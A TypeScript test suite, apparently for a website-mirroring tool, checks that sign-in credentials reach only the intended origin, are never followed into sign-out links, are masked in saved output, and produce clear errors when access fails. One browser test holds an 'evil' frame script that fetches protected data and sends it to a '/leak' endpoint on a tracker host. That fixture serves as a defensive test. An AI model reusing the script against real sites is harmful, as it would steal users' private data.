import assert from 'node:assert/strict';
import type { IncomingHttpHeaders, IncomingMessage } from 'node:http';
import { createPageDrawer } from '../../../source/live/page-drawer.js';
import { createSiteClient } from '../../../source/live/site-client.js';
import type { SiteCredentials } from '../../../source/live/site-credentials.js';
import { SourceRefused } from '../../../source/source-errors.js';
import { findBrowser } from '../../support/find-browser.js';
import { type Answer, type HttpSite, type Routes, startHttpSite } from '../../support/http-site.js';
import { type MirrorOptions, mirrorSite } from '../../support/mirrored-site.js';
import { until } from '../../support/until.js';

const TOKEN = 'tok-4711&"kestrel"';
const SESSION = 'sess-kingfisher-0815';
const page = (title: string, body = '') =>
  `<html><head><title>${title}</title></head><body><main><h1>${title}</h1>${body}</main></body></html>`;
const SIGN_IN = page('Sign in', '<form><input name="user"><input type="password" name="p"><button>Go</button></form>');
const links = (...paths: readonly string[]) => paths.map((path) => `<a href="${path}">${path}</a>`).join(' ');

describe('a site behind a sign-in', () => {
  const sites: HttpSite[] = [];
  /** The headers of the requests to each server, by path. */
  const received = new Map<HttpSite, [path: string, headers: IncomingHttpHeaders][]>();
  const start = async (routes: Routes) => {
    const site = await startHttpSite({});
    received.set(site, []);
    sites.push(site);
    serve(site, { '*': { status: 404 }, ...routes });
    return site;
  };
  /** Serves routes and keeps the headers of their requests. */
  const serve = (site: HttpSite, routes: Routes) => {
    const recorded = Object.entries(routes).map(([path, answer]) => {
      const reply = (request: IncomingMessage) => {
        received.get(site)?.push([request.url ?? '', request.headers]);
        return typeof answer === 'function' ? answer(request) : answer;
      };
      return [path, reply] as const;
    });
    site.serve(Object.fromEntries(recorded));
  };
  const headersOf = (site: HttpSite) => received.get(site) ?? [];
  const isSignedIn = (headers: IncomingHttpHeaders) =>
    headers.authorization === `Bearer ${TOKEN}` && (headers.cookie ?? '').includes(`session=${SESSION}`);
  const holds = (text: string | Buffer) => [TOKEN, SESSION].some((secret) => text.includes(secret));
  const credentials = (site: HttpSite): SiteCredentials => ({
    origin: new URL(site.url).origin,
    headers: { Authorization: `Bearer ${TOKEN}` },
    cookies: `session=${SESSION}; theme=dark`,
  });
  const signedIn = (site: HttpSite, options: MirrorOptions = {}) =>
    mirrorSite(site.url, { credentials: credentials(site), ...options });
  /** Answers only for readers who are signed in. */
  const behind =
    (answer: Answer) =>
    ({ headers }: { readonly headers: IncomingHttpHeaders }): Answer =>
      isSignedIn(headers) ? answer : { status: 401 };

  afterEach(async () => {
    for (const site of sites.splice(0)) await site.close();
    received.clear();
  });

  it('is read whole with headers and cookies, which no other origin receives', async () => {
    const cdn = await start({
      '/theme.css': 'body{background:url(/ground.png)}',
      '/ground.png': 'png',
      '/moved.png': 'png',
      '/back.png': 'png',
    });
    const site = await start({
      '/robots.txt': behind('User-agent: *\nDisallow: /closed\n'),
      '/sitemap.xml': behind({ status: 404 }),
      '/': behind(
        page(
          'Home',
          `<link rel="stylesheet" href="${cdn.url}theme.css"><img src="/logo.png"><img src="/away.png">${links('/a', '/closed', '/moved')}`,
        ),
      ),
      '/a': behind(page('A', 'The barn owl.')),
      '/logo.png': behind('png'),
      '/away.png': behind({ status: 302, headers: { location: `${cdn.url}moved.png` } }),
      '/moved': behind({ status: 302, headers: { location: `${cdn.url}` } }),
    });
    const { files, findings } = await signedIn(site);
    assert.match(String(files.get('a.html')), /barn owl/);
    assert.ok(files.has('logo.png'));
    assert.ok(
      headersOf(site).length >= 8 && headersOf(site).every(([, headers]) => isSignedIn(headers)),
      JSON.stringify(headersOf(site)),
    );
    assert.ok(!site.asked.includes('/closed'));
    assert.deepEqual(cdn.asked.sort(), ['/ground.png', '/moved.png', '/theme.css']);
    for (const [path, headers] of headersOf(cdn)) {
      assert.ok(!holds(JSON.stringify(headers)) && headers.cookie === undefined, path);
    }
    assert.deepEqual(
      findings.filter(({ severity }) => severity === 'error'),
      [],
    );
  });

  it('keeps its session: a cookie that it renews replaces the given one, and nothing deletes it', async () => {
    const renewed = 'sess-renewed-4242';
    const cookies = (headers: IncomingHttpHeaders) => headers.cookie ?? '';
    const site = await start({
      '/': {
        headers: { 'set-cookie': [`session=${renewed}; Path=/`, 'theme=; Expires=Thu, 01 Jan 1970 00:00:00 GMT'] },
        body: page('Home', links('/a', '/sign-out', '/account/logout.php', '/guide/sign-out-of-it')),
      },
      '/a': page('A'),
      '/guide/sign-out-of-it': page('How to sign out'),
    });
    const { findings } = await signedIn(site);
    const [, ...later] = headersOf(site);
    assert.ok(later.length > 3);
    for (const [path, headers] of later) {
      assert.ok(cookies(headers).includes(`session=${renewed}`) && !cookies(headers).includes(SESSION), path);
      assert.ok(cookies(headers).includes('theme=dark'), path);
    }
    assert.ok(site.asked.includes('/guide/sign-out-of-it'));
    assert.ok(!site.asked.some((path) => /\/sign-out$|logout/.test(path)), site.asked.join(' '));
    const told = findings.filter(({ message }) => message.includes('ends the session'));
    assert.equal(told.length, 2);
  });

  it('asks for pages to sign out as for all others if nobody is signed in', async () => {
    const site = await start({ '/': page('Home', links('/sign-out')), '/sign-out': page('Sign-out in the API') });
    assert.ok((await mirrorSite(site.url)).files.has('sign-out.html'));
  });

  it('does not get its credentials into the bundle by repeating them', async () => {
    const forms = [
      TOKEN,
      encodeURIComponent(TOKEN),
      JSON.stringify(TOKEN),
      TOKEN.replaceAll('&', '&amp;').replaceAll('"', '&quot;'),
      Buffer.from(TOKEN).toString('base64'),
      `user ${SESSION}`,
    ];
    const wide = Buffer.from(`\ufeff${page('Wide', `${SESSION} owl`)}`, 'utf16le');
    const site = await start({
      '/': page('Home', `${links('/me', '/wide', '/moved', '/plain')}<a href="/x?token=${SESSION}">x</a>`),
      '/me': { headers: { etag: '"me"' }, body: page(`Me ${SESSION}`, `<p>owl ${forms.join(' ; ')}</p>`) },
      '/wide': { headers: { 'content-type': 'text/html; charset=utf-16le' }, body: wide },
      '/moved': { status: 302, headers: { location: `https://elsewhere.test/?token=${SESSION}` } },
      '/plain': page('Plain', 'dark theme'),
    });
    const { files, findings, plan } = await signedIn(site);
    for (const [path, bytes] of files) {
      for (const form of [...forms, SESSION]) assert.ok(!bytes.includes(form), `${path} has ${form}`);
      assert.ok(!bytes.includes(Buffer.from(SESSION, 'utf16le')), path);
    }
    assert.ok(!holds(JSON.stringify([findings, plan])));
    assert.match(String(files.get('me.html')), /owl \*{10,}/);
    assert.match(String(files.get('wide.html')), /\*{20} owl/);
    // A short value is part of other words.
    assert.match(String(files.get('plain.html')), /dark theme/);
    const told = findings.filter(({ message }) => message.includes('repeats the credentials'));
    assert.equal(told.length, 3);
  });

  describe('without access to it', () => {
    const refusals: readonly [what: string, routes: Routes, sentence: RegExp][] = [
      [
        'a server that answers 401',
        { '/': { status: 401 } },
        /answered 401; set OFFPRINT_SITE_HEADERS or OFFPRINT_SITE_COOKIES/,
      ],
      ['a server that answers 403', { '/': { status: 403 } }, /answered 403; set OFFPRINT_SITE_HEADERS/],
      [
        'a redirect to another host that says where to return to',
        { '/': { status: 302, headers: { location: 'https://id.test/u?continue=%2F&next=' } }, '/x': 'x' },
        /leads to https:\/\/id\.test\/u, which is another host/,
      ],
      [
        'a redirect to a page to sign in on another host',
        { '/': { status: 302, headers: { location: 'https://id.test/auth?client_id=d&redirect_uri=x&state=abc' } } },
        /leads to a page to sign in, https:\/\/id\.test\/auth; set OFFPRINT_SITE_HEADERS/,
      ],
      [
        'a redirect to a page to sign in on its own host',
        { '/': { status: 302, headers: { location: '/welcome?to=%2F' } }, '/welcome?to=/': SIGN_IN },
        /leads to a page to sign in, .*\/welcome.*; set OFFPRINT_SITE_HEADERS/,
      ],
    ];
    for (const [what, routes, sentence] of refusals)
      it(`${what} ends the export with what to do`, async () => {
        const site = await start(routes);
        await assert.rejects(mirrorSite(site.url), (error) => {
          assert.ok(error instanceof SourceRefused);
          assert.match(error.message, sentence);
          return true;
        });
      });

    it('credentials that expired are said to have expired, and are not part of the sentence', async () => {
      const site = await start({ '/': { status: 401 } });
      await assert.rejects(signedIn(site), (error: Error) => {
        assert.match(error.message, /answered 401; the credentials do not suffice or have expired; replace them/);
        return !holds(error.message);
      });
    });

    it('a site that moved to another origin does not receive its credentials, and the sentence names that origin', async () => {
      const site = await start({});
      const { port } = new URL(site.url);
      const www = `http://www.d.test:${port}/`;
      serve(site, {
        '*': ({ headers }) =>
          headers.host?.startsWith('www.') ? { status: 401 } : { status: 301, headers: { location: www } },
      });
      const given = { ...credentials(site), origin: `http://d.test:${port}` };
      await assert.rejects(
        mirrorSite(`http://d.test:${port}/`, { credentials: given, resolveName: async () => ['127.0.0.1'] }),
        new RegExp(`sent to http://d\\.test:${port} alone; register ${www} instead`),
      );
      const [first, second] = headersOf(site);
      assert.ok(isSignedIn(first?.[1] ?? {}) && !holds(JSON.stringify(second)));
    });

    const everyPage = Array.from({ length: 30 }, (_, index) => `/p${index}`);
    for (const [what, answer] of [
      ['a page to sign in in place of every page', SIGN_IN],
      ['a redirect to it from every page', { status: 302, headers: { location: '/login?next=1' } }],
      ['a redirect to another host from every page', { status: 302, headers: { location: 'https://id.test/login' } }],
      ['401 for every page', { status: 401 }],
    ] as const)
      it(`${what} is one error with the number of pages`, async () => {
        const site = await start({
          '/': page('Home', links(...everyPage)),
          '/login?next=1': SIGN_IN,
          '/login': SIGN_IN,
          '*': answer,
        });
        const { findings } = await mirrorSite(site.url);
        const told = findings.filter(({ message }) => /sign in/.test(message));
        assert.equal(told.length, 1, JSON.stringify(findings));
        assert.equal(told[0]?.severity, 'error');
        assert.match(
          told[0]?.message ?? '',
          /^30 of 3[12] pages ask readers to sign in.*for example .*set OFFPRINT_SITE/,
        );
      });

    it('a start that is a page to sign in is an error', async () => {
      const site = await start({ '/': SIGN_IN });
      const { findings } = await mirrorSite(site.url);
      assert.ok(findings.some(({ severity, message }) => severity === 'error' && /1 of 1 pages ask/.test(message)));
    });

    it('a link to an account on a public site is a warning, and a page that moved is nothing', async () => {
      const site = await start({
        '/': page('Home', links('/account', '/old', ...everyPage)),
        '/account': { status: 302, headers: { location: '/login?next=%2Faccount' } },
        '/login': SIGN_IN,
        '/old': { status: 302, headers: { location: '/p1?from=%2Fold' } },
        ...Object.fromEntries(everyPage.map((path) => [path, page(`Page ${path}`, `Words about ${path}.`)])),
      });
      const { findings } = await mirrorSite(site.url);
      const told = findings.filter(({ message }) => /sign in/.test(message));
      assert.deepEqual(
        told.map(({ severity, message }) => [severity, /account/.test(message)]),
        [['warning', true]],
      );
    });
  });

  it('is drawn in a browser with its credentials, which frames and files of other origins do not get', async function () {
    const chromiumPath = await findBrowser();
    if (chromiumPath === undefined) return this.skip();
    let isOver = false;
    const tracker = await start({});
    const site = await start({});
    // A frame whose requests reach nobody yet asks again.
    const evil = `<script>const ask = () => fetch('${site.url}data.json').then((r) => r.text()).then((t) => fetch('/leak?' + t), () => fetch('/refused')).catch(() => setTimeout(ask, 50)); ask()</script>`;
    serve(tracker, { '/frame': evil, '/dot.png': 'png', '*': { status: 404 } });
    serve(site, {
      '/': behind(`<div id="root"></div><script src="/app.js"></script>`),
      '/app.js': behind(
        `fetch('/hold'); fetch('/data.json').then((r) => r.json()).then(({ words }) => { document.getElementById('root').innerHTML = '<h1>Drawn</h1><p>' + words + '</p><img src="${tracker.url}dot.png"><iframe src="${tracker.url}frame"></iframe><iframe sandbox="allow-scripts" srcdoc="' + ${JSON.stringify(evil.replaceAll('"', '&quot;').replaceAll("'/", `'${tracker.url}`))}.replace('</', '<' + '/') + '"></iframe>' })`,
      ),
      '/data.json': behind('{"words":"a secret owl"}'),
      // The page is not finished before both frames have had their answer.
      '/hold': async () => {
        await until(() => isOver || ['/leak', '/refused'].every((path) => tracker.asked.includes(path)));
        return 'done';
      },
      '*': { status: 404 },
    });
    const client = await createSiteClient({
      timeoutMs: 20_000,
      maxBytes: 1e6,
      privateNetwork: 'allowed',
      credentials: credentials(site),
    });
    const drawer = createPageDrawer({ chromiumPath, client, signal: new AbortController().signal });
    try {
      const drawn = await drawer.draw(site.url);
      assert.ok('html' in drawn, JSON.stringify(drawn));
      assert.match(drawn.html, /a secret owl/);
      assert.ok(!holds(drawn.html));
      assert.ok(tracker.asked.includes('/dot.png') && tracker.asked.includes('/frame'), tracker.asked.join(' '));
      // A frame of another origin reads what a reader without access gets, and one without an origin reads nothing.
      // The page may be drawn again.
      const asked = new Set(tracker.asked.filter((path) => /leak|refused/.test(path)));
      assert.deepEqual([...asked].sort(), ['/leak', '/refused']);
      for (const [path, headers] of headersOf(tracker)) assert.ok(!holds(JSON.stringify(headers)), path);
      const data = headersOf(site).filter(([path]) => path === '/data.json');
      assert.ok(data.some(([, headers]) => isSignedIn(headers)) && data.some(([, headers]) => !isSignedIn(headers)));
    } finally {
      isOver = true;
      await drawer.close();
      await client.close();
    }
  });
});
